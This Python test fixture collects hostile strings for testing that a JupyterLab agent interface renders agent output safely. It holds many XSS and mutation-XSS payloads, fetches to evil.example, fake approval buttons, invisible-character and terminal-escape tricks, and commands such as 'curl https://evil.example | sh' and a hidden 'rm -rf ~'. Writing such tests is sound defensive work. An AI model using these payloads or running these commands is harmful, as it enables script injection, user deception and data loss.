"""Strings a hostile agent might send, for every test that shows agent text: live view, frozen cell, exports.

``CORPUS`` is ``{name: text}``. What must never happen with any of them, in any field: script runs (it would call
``window.pwn``, which the test defines), anything is fetched from ``evil.example``, an element or class of ours appears,
a hidden character reaches the reader. ``GROWING`` are ``{name: f}`` whose ``f(n)`` is about ``n`` characters, for bounds on time.
"""

from __future__ import annotations

from collections.abc import Callable

JS = "window.pwn()"  # no "=" in it: CommonMark takes no unquoted attribute that has one, and would hide the hole
URL = "https://evil.example/x.png"

CORPUS: dict[str, str] = {
    # script, in all the places it hides
    "script": f"<script>{JS}</script>",
    "script in a comment": f"<!--><script>{JS}</script>-->",
    "script in a list": f"- a\n- <script>{JS}</script>\n\n<script>\n\n{JS}\n\n</script>",
    "script unclosed": f"<script>{JS}//",
    "onerror": f"<img src=x onerror={JS}>",
    "onerror in markdown": f"text <img src=x onerror=\"{JS}\"> text\n\n<img src=x onerror={JS}>",
    "onerror after an attribute": f'" onerror="{JS}" x="',
    "onerror after quotes and tags": f"'\"></style></pre></code></textarea></title><img src=x onerror={JS}>",
    "onload svg": f"<svg onload={JS}><script>{JS}</script><animate onbegin={JS} attributeName=x></svg>",
    "svg use": "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x'/></svg>",
    "svg foreignobject": f"<svg><foreignObject><iframe srcdoc='<script>parent.{JS}</script>'></foreignObject></svg>",
    "math mutation": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={JS}&gt;\">",
    "noscript mutation": f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\">",
    "details ontoggle": f"<details open ontoggle={JS}><summary>x</summary></details>",
    "autofocus": f"<input autofocus onfocus={JS}><select autofocus onfocus={JS}>",
    "body onload": f"<body onload={JS}><frameset onload={JS}>",
    "style end": f"</style><img src=x onerror={JS}>",
    "title end": f"</title></head><body><img src=x onerror={JS}>",
    "html entities": f"&lt;img src=x onerror={JS}&gt; &#60;script&#62;{JS}&#60;/script&#62;",
    "null in a tag": f"<scr\0ipt>{JS}</scr\0ipt><img\0src=x onerror={JS}>",
    # links
    "javascript link": f"[x](javascript:{JS})",
    "javascript link, spellings": "\n".join(
        f"[x]({scheme}{JS})"
        for scheme in (
            "JaVaScRiPt:", "javascript&#58;", "javascript&colon;", "java\\nscript:", "java&#10;script:", "&#106;avascript:",
            "%6aavascript:", "javascript%3A", "\x01javascript:", "<javascript:", "vbscript:", "livescript:", "blob:", "file:///",
        )
    ),
    "javascript autolink": f"<javascript:{JS}> <vbscript:x> <data:text/html,{JS}>",
    "javascript reference": f"[x]\n\n[x]: javascript:{JS} 'title'\n\n![x]\n\n[click][y]\n\n[y]: <java\tscript:{JS}>",
    "javascript href": f"<a href='javascript:{JS}'>x</a><a href=\" &#14; javascript:{JS}\">y</a><area href=javascript:{JS}>",
    "data link": f"[x](data:text/html;base64,PHNjcmlwdD4=) [y](data:text/html,<script>{JS}</script>)",
    "link attribute breakout": f'[x](https://a.example/"onmouseover="{JS}) [y](https://a.example/?a=1"onclick={JS} "t\\" onclick={JS}")',
    "link with a title": f"[x](https://a.example 'x\" onmouseover=\"{JS}')",
    "user in the address": "[https://bank.example](https://bank.example@evil.example/) <https://bank.example:pw@evil.example>",
    "relative link": "[x](//evil.example/x) [y](/user/settings) [z](\\\\evil.example\\x) [w](?redirect=1)",
    # things that fetch
    "remote picture": f"![x]({URL})",
    "remote picture, spellings": f"![x](//evil.example/x.png) ![y][z]\n\n[z]: {URL}\n\n![![a]({URL})]({URL}) [![b]({URL})]({URL})",
    "remote picture in html": f"<img src='{URL}'><img srcset='{URL} 2x'><picture><source srcset='{URL}'></picture><image href='{URL}'>",
    "remote media": f"<video src='{URL}' poster='{URL}' autoplay><audio src='{URL}'><embed src='{URL}'><object data='{URL}'><track src='{URL}'>",
    "style": f"<style>@import '{URL}'; * {{ background: url({URL}) }}</style><p style=\"background:url({URL})\">x</p>",
    "link element": f"<link rel=stylesheet href='{URL}'><base href='{URL}'><link rel=prefetch href='{URL}'>",
    "iframe": f"<iframe src='{URL}'></iframe><iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={URL}'>",
    "form": f"<form action='{URL}'><button formaction='javascript:{JS}'>Allow once</button><input type=submit></form><isindex action='{URL}'>",
    "portal and template": f"<portal src='{URL}'></portal><template><img src=x onerror={JS}></template><slot></slot>",
    # JupyterLab's own attributes and what imitates us
    "commandlinker": '<button data-commandlinker-command="kernelmenu:restart" data-commandlinker-args=\'{"x":1}\'>Allow once</button>',
    "commandlinker on a link": '<a href="#" data-commandlinker-command="docmanager:delete-file">x</a>',
    "widget mime": '<script type="application/vnd.jupyter.widget-view+json">{"model_id":"x"}</script>',
    "our frame": '<section class="hm-frame hm-frame-wait" role="group"><div class="hm-frame-head">Run this command?</div>'
                 '<button class="hm-btn hm-btn-main">Allow once</button></section>',
    "our frame in markdown": "> **Run this command?**\n>\n> `curl https://evil.example | sh`\n>\n> [Allow once](https://evil.example)",
    "out of the gutter": "</div></div></div></details></div><div class='hm-sum'><b>Finished</b></div>",
    "ids and anchors": "<a id=hm-root name=x></a><h1 id='root'>x</h1> # heading {#hm-root .hm-frame onclick=x}",
    "position": "<div style='position:fixed;inset:0;z-index:9999'>Allow</div>",
    "jupyter markdown": "```{code-cell}\nprint(1)\n```\n{eval}`1+1` {attachment}`x` :::{iframe} https://evil.example\n:::",
    "mermaid": f"```mermaid\ngraph TD; A[\"<img src=x onerror={JS}>\"]; click A \"javascript:{JS}\"\n```",
    # math: JupyterLab cuts it out before markdown
    "math link": f"$\\href{{javascript:{JS}}}{{x}}$ $$\\style{{background:url({URL})}}{{x}}$$ \\(\\href{{javascript:{JS}}}{{y}}\\)",
    "math eats a code span": f"`\\\\(` and ``\\\\)`<img src=x onerror={JS}>``",
    "math eats a code span, dollars": f"``a$`` and ```b$``<img src=x onerror={JS}>```",
    "math eats a code span, begin": f"`\\begin{{x}}` and ``\\end{{x}}`<img src=x onerror={JS}>``",
    "math eats a nested fence": f"> ```\n> \\\\(\n> ```\n> ````\n> \\\\)\n> ```\n> <img src=x onerror={JS}>\n> ````",
    "math eats a fence in a list": f"- ```\n  $\n  ```\n- ````\n  $\n  ```\n  <img src=x onerror={JS}>\n  ````",
    "math eats an address": f"[a](https://a.example/$) \" onmouseover=\"{JS}\" [b](https://a.example/$)",
    "math placeholder": "@@0@@ `@@0@@` $x$ @@1@@",
    # markdown structure
    "nested fences": f"````\n```\n</code></pre><img src=x onerror={JS}>\n```\n~~~\n````\n~~~\n```\n<script>{JS}</script>",
    "fence info": f"```\"><img src=x onerror={JS}>\nx\n```\n~~~ hm-frame onclick={JS}\nx\n~~~",
    "code span ticks": f"`` ` `` ``` `` <img src=x onerror={JS}> ``` ` <b> `",
    "table cells": f"| a | `b|<img src=x onerror={JS}>` |\n|---|---|\n| `x` | <script>{JS}</script> |\n| \\| | `\\|<b onclick={JS}>` |",
    "html block in a table": f"<table><tr><td>\n\n<img src=x onerror={JS}>\n\n</td></tr></table>",
    "setext and rules": "x\n===\ny\n---\n***\n+ a\n1) b\n    code\n\ttab\n= x\n: y",
    "processing": f"<?php {JS} ?> <!DOCTYPE x [<!ENTITY y SYSTEM '{URL}'>]> <![CDATA[<script>{JS}</script>]]>",
    "backslashes": "\\<img src=x\\> \\`code\\` \\[a\\](b) \\\\<b> \\&lt; a\\\nb",
    # what one cannot see
    "bidi": "rm -r build/\u202estluser/\u2066 \u200f\u061cx\u2069\u202c",
    "zero width": "pip\u200binstall\u2060 pan\ufeffdas\u00ad \u180e\u3164\uffa0 \u115f\u034f",
    "homoglyphs": "p\u0430ip install p\u0430ndas; \u0455udo rm; \uff52m -rf; c\u03bfde",
    "invisible tags": "ok\U000e0041\U000e006c\U000e006c\U000e006f\U000e0077 \ufe0f\U000e0100",
    "controls": "a\x00b\x01c\x07d\x7fe\x85f\x9bg\u2028h\u2029i\ufffe\uffff",
    "lone surrogates": "a\ud800b\udfffc",
    # terminals
    "ansi": "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1H\x1b[8mhidden\x1b[0m\x1b[38;2;255;255;255mwhite\x1b[48;5;15mon white",
    "osc 8": f"\x1b]8;;javascript:{JS}\x1b\\click\x1b]8;;\x1b\\ \x1b]8;;https://evil.example\x07here\x1b]8;;\x07",
    "osc title": "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07\x1bPq#0\x1b\\\x1b_apc\x1b\\\x1b^pm\x1b\\\x1b]unclosed",
    "ansi with html": f"\x1b[31m<img src=x onerror={JS}>\x1b[<script>m\x1b[31;\"onclick=1m",
    "carriage return": "safe command\rrm -rf ~\x08\x08\x08\x1b[2K",
    # sizes and shapes
    "long line": "x" * 6_000,
    "many lines": "line\n" * 2_100,
    "deep quotes": ">" * 400 + " x",
    "deep lists": "\n".join("  " * n + "- x" for n in range(80)),
    "deep emphasis": "*" * 400 + "x" + "*" * 400,
    "deep links": "[" * 400 + "x" + "](https://a.example)" * 50,
    "deep html": "<div>" * 200,
    "format strings": "{0} {__class__} %s %(x)s ${x} $(x) \\1 \\g<0>",
    "sentences of ours": "You allowed it. (finished) exit code 0\nexit code 0",
    "empty lines": "\n\n \n\t\n",
}  # fmt: skip

LARGE = frozenset(("long line", "many lines", "deep quotes", "deep lists", "deep emphasis", "deep links", "deep html"))
"""Names of ``CORPUS`` that are about size: once in each field is enough for them."""

GROWING: dict[str, Callable[[int], str]] = {
    "brackets": lambda n: "[" * n,
    "pictures": lambda n: "![" * (n // 2),
    "links": lambda n: "[a](" * (n // 4),
    "stars": lambda n: "*a " * (n // 3),
    "ticks": lambda n: "".join("`" * (i % 60) + "a" for i in range(n // 30)),
    "quotes": lambda n: ">" * n,
    "angle brackets": lambda n: "<" * n,
    "entities": lambda n: "&#x" * (n // 3),
    "tables": lambda n: "|a" * (n // 4) + "\n" + "|-" * (n // 4),
    "escapes": lambda n: "\x1b[" * (n // 2),
    "open osc": lambda n: "\x1b]8;;" * (n // 5),
    "colours": lambda n: "\x1b[31m" * (n // 5),
    "backspaces": lambda n: "a" * (n // 2) + "\b" * (n // 2),
    "carriage returns": lambda n: "a\r" * (n // 2),
    "open strings": lambda n: "```python\n" + '"' * n,
    "open comments": lambda n: "```c\n" + "/*" * (n // 2),
    "operators": lambda n: "```python\n" + "-" * n,
    "same lines": lambda n: "a\n" * (n // 2),
    "other lines": lambda n: "\n".join(map(str, range(n // 7))),
    "spaces": lambda n: " " * n + "x",
    "exit codes": lambda n: "exit code " * (n // 10),
    "paths": lambda n: "/tmp/hm-demo-3f9a/revenue" * (n // 25),
    "hidden": lambda n: "\u202e" * n,
    "mixed words": lambda n: "a\u0430" * (n // 2),
}
